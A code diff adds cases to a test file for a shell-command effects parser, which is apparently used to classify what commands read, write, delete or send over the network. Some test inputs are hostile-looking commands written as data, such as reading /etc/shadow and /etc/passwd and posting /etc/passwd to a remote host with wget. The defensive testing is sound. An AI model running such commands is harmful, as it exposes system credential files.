@@ -128,6 +128,8 @@ describe("effects by parseArgs over the program rows", () => {
     expect(effects("find . -name x -delete")).toBe("R:. D:.");
     expect(effects("find -L src -newer /etc/ref")).toBe("R:src R:/etc/ref");
     expect(effects("sudo cat /etc/shadow")).toBe("R:/etc/shadow");
+    expect(effects("parallel cat ::: /etc/passwd")).toBe("R:?");
+    expect(effects("find . -exec sh -c 'cat x' \\;")).toBe("R:. R:? R:x");
   });
 
   test("curl and wget: uploads, saves, methods", () => {
@@ -140,6 +142,8 @@ describe("effects by parseArgs over the program rows", () => {
     expect(effects("curl -o out/f https://h/f")).toBe("C:https://h/f W:out/f");
     expect(effects("wget --post-file=/etc/passwd https://h/")).toBe("C:https://h/@POST W:. R:/etc/passwd");
     expect(effects("wget -O out/f https://h/f")).toBe("C:https://h/f W:out/f");
+    expect(effects("wget -O - https://h/f")).toBe("C:https://h/f");
+    expect(effects("curl -o - -T - https://h/f")).toBe("C:https://h/f@PUT");
   });
 
   test("git: subcommands, settings, named remotes", () => {
